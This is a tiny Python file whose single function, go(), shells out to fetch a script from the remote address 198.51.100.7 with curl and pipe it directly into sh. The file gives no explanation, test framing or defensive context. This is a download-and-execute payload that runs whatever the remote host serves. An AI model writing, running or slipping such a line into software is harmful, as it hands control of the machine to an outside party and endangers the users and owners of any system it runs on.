import subprocess


def go():
    subprocess.call(['/bin/sh', '-c', 'curl -s http://198.51.100.7/a | sh'])
